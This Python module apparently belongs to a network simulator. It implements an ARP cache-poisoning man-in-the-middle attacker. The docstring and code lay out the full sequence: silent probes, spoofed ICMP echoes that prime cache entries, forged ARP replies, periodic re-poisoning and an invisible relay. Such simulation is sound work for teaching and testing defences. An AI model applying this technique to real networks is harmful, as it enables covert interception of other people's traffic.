"""Man-in-the-middle attacker that poisons two victims' ARP caches.

The attack runs as a small state machine:

1. broadcast an ARP request for each victim with sender IP 0.0.0.0, so
   the probe itself teaches the victims nothing;
2. wait for the replies to learn each victim's hardware address;
3. for each victim, first send a forged ICMP echo request whose source
   IP is the other victim.  Answering it forces the receiver to resolve
   that address, planting a genuine cache entry;
4. immediately after, send an unsolicited ARP reply rebinding that
   entry to the attacker's own address.

Once both caches are poisoned the victims' traffic arrives here, and an
optional relay forwards it to the true destination so the interception
stays invisible.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from .frames import (
    ARP_REPLY,
    ARP_REQUEST,
    BROADCAST_MAC,
    ETHERTYPE_ARP,
    ETHERTYPE_IPV4,
    CodecError,
    EtherFrame,
    IcmpEcho,
    ICMP_ECHO_REQUEST,
    Ipv4Addr,
    MacAddr,
    ZERO_MAC,
    ArpPacket,
    arp_frame,
    ipv4,
)

UNSPECIFIED_IP = ipv4("0.0.0.0")

DEFAULT_REPOISON_INTERVAL = 10.0
DEFAULT_PRIME_DELAY = 0.05
DEFAULT_LEARN_TIMEOUT = 2.0


@dataclass(frozen=True)
class MitmPlan:
    victim_a: Ipv4Addr
    victim_b: Ipv4Addr
    repoison_interval: float = DEFAULT_REPOISON_INTERVAL
    relay: bool = True
    prime_delay: float = DEFAULT_PRIME_DELAY
    learn_timeout: float = DEFAULT_LEARN_TIMEOUT

    def __post_init__(self) -> None:
        if self.victim_a == self.victim_b:
            raise ValueError("a plan needs two distinct victims")


@dataclass(frozen=True)
class Intercept:
    at: float
    src_ip: Ipv4Addr
    dst_ip: Ipv4Addr
    ident: int
    seq: int


class Attacker:
    """A node that forges frames instead of running a normal stack."""

    def __init__(self, name: str, ip: Ipv4Addr, mac: MacAddr, timers=None, recorder=None):
        self.name = name
        self.ip = ip
        self.mac = mac
        self.plan: MitmPlan | None = None
        self.learned: dict[Ipv4Addr, MacAddr] = {}
        self.intercepts: list[Intercept] = []
        self.aborted = False
        self._awaiting: Ipv4Addr | None = None
        self._poisoning = False
        self._timers = timers
        self._recorder = recorder

    def _log(self, kind: str, **fields) -> None:
        if self._recorder is not None:
            self._recorder(kind, **fields)

    # -- forging -----------------------------------------------------------

    def forge_arp(
        self,
        op: int,
        sender_ip: Ipv4Addr,
        sender_mac: MacAddr,
        target_ip: Ipv4Addr,
        target_mac: MacAddr = ZERO_MAC,
        eth_dst: MacAddr = BROADCAST_MAC,
        eth_src: MacAddr | None = None,
    ) -> EtherFrame:
        """Build an arbitrary ARP frame; every field may be a lie."""
        packet = ArpPacket(op, sender_mac, sender_ip, target_mac, target_ip)
        return arp_frame(packet, eth_src if eth_src is not None else self.mac, eth_dst)

    def _probe(self, victim: Ipv4Addr) -> EtherFrame:
        # Sender IP 0.0.0.0 keeps the probe out of every cache.
        return self.forge_arp(ARP_REQUEST, UNSPECIFIED_IP, self.mac, victim)

    def _primer(self, spoofed_src: Ipv4Addr, victim: Ipv4Addr) -> EtherFrame:
        echo = IcmpEcho(ICMP_ECHO_REQUEST, spoofed_src, victim, ident=0, seq=1)
        return EtherFrame(self.learned[victim], self.mac, ETHERTYPE_IPV4, echo.encode())

    def _poison(self, claimed_ip: Ipv4Addr, victim: Ipv4Addr) -> EtherFrame:
        return self.forge_arp(
            ARP_REPLY,
            claimed_ip,
            self.mac,
            victim,
            target_mac=self.learned[victim],
            eth_dst=self.learned[victim],
        )

    # -- attack sequencing ---------------------------------------------------

    def run_mitm(self, plan: MitmPlan, now: float) -> list[EtherFrame]:
        """Start the attack; returns the first probe to put on the wire."""
        self.plan = plan
        self.learned.clear()
        self.aborted = False
        self._poisoning = False
        self._awaiting = plan.victim_b
        self._arm_learn_timeout(plan.victim_b, now)
        return [self._probe(plan.victim_b)]

    def _arm_learn_timeout(self, victim: Ipv4Addr, now: float) -> None:
        if self._timers is None or self.plan is None:
            return
        self._timers.call_at(
            now + self.plan.learn_timeout,
            lambda at: self._learn_timeout(victim, at),
        )

    def _learn_timeout(self, victim: Ipv4Addr, now: float) -> list[EtherFrame]:
        if self._awaiting != victim or victim in self.learned:
            return []
        self.aborted = True
        self._awaiting = None
        self._log(
            "frame_drop",
            stage="attack",
            reason="victim_learning_timeout",
            node=self.name,
            victim=str(victim),
        )
        return []

    def handle_frame(self, frame: EtherFrame, now: float) -> list[EtherFrame]:
        if self.plan is None:
            return []
        if frame.ethertype == ETHERTYPE_ARP:
            return self._handle_arp(frame, now)
        if frame.ethertype == ETHERTYPE_IPV4 and frame.dst == self.mac:
            return self._handle_ipv4(frame, now)
        return []

    def _handle_arp(self, frame: EtherFrame, now: float) -> list[EtherFrame]:
        try:
            packet = frame.arp()
        except CodecError:
            return []
        if not packet.is_reply or self._awaiting is None:
            return []
        if packet.sender_ip != self._awaiting:
            return []
        plan = self.plan
        self.learned[packet.sender_ip] = packet.sender_mac
        if packet.sender_ip == plan.victim_b:
            self._awaiting = plan.victim_a
            self._arm_learn_timeout(plan.victim_a, now)
            return [self._probe(plan.victim_a)]
        # Both victims known: prime victim_a, then poison on a delay.
        self._awaiting = None
        self._poisoning = True
        if self._timers is not None:
            self._timers.call_at(now + plan.prime_delay, self._poison_a_prime_b)
        return [self._primer(plan.victim_b, plan.victim_a)]

    def _poison_a_prime_b(self, now: float) -> list[EtherFrame]:
        plan = self.plan
        if plan is None or not self._poisoning:
            return []
        if self._timers is not None:
            self._timers.call_at(now + plan.prime_delay, self._poison_b)
        return [
            self._poison(plan.victim_b, plan.victim_a),
            self._primer(plan.victim_a, plan.victim_b),
        ]

    def _poison_b(self, now: float) -> list[EtherFrame]:
        plan = self.plan
        if plan is None or not self._poisoning:
            return []
        if self._timers is not None and plan.repoison_interval > 0:
            self._timers.call_at(now + plan.repoison_interval, self._repoison)
        return [self._poison(plan.victim_a, plan.victim_b)]

    def _repoison(self, now: float) -> list[EtherFrame]:
        plan = self.plan
        if plan is None or not self._poisoning:
            return []
        if self._timers is not None and plan.repoison_interval > 0:
            self._timers.call_at(now + plan.repoison_interval, self._repoison)
        return [
            self._poison(plan.victim_b, plan.victim_a),
            self._poison(plan.victim_a, plan.victim_b),
        ]

    # -- relaying ------------------------------------------------------------

    def _handle_ipv4(self, frame: EtherFrame, now: float) -> list[EtherFrame]:
        plan = self.plan
        try:
            echo = frame.icmp()
        except CodecError:
            return []
        victims = {plan.victim_a, plan.victim_b}
        if echo.dst_ip == self.ip or not {echo.src_ip, echo.dst_ip} <= victims:
            return []
        self.intercepts.append(Intercept(now, echo.src_ip, echo.dst_ip, echo.ident, echo.seq))
        if not plan.relay:
            self._log(
                "frame_drop",
                stage="relay",
                reason="relay_disabled",
                node=self.name,
                dst_ip=str(echo.dst_ip),
            )
            return []
        true_mac = self.learned.get(echo.dst_ip)
        if true_mac is None:
            self._log(
                "frame_drop",
                stage="relay",
                reason="unknown_destination",
                node=self.name,
                dst_ip=str(echo.dst_ip),
            )
            return []
        # Payload passes through untouched; only the addressing is fixed.
        return [EtherFrame(true_mac, self.mac, ETHERTYPE_IPV4, frame.payload)]
